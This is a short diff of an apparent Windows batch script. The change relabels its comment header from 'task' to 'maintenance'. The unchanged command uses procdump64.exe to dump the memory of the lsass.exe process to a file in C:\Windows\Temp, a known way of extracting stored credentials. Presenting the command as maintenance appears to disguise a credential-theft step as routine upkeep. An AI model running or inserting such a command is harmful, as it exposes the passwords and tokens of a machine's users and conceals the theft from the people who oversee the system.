@@ -1,2 +1,2 @@
-REM task 8176 v1
+REM maintenance 5291 v1
 procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
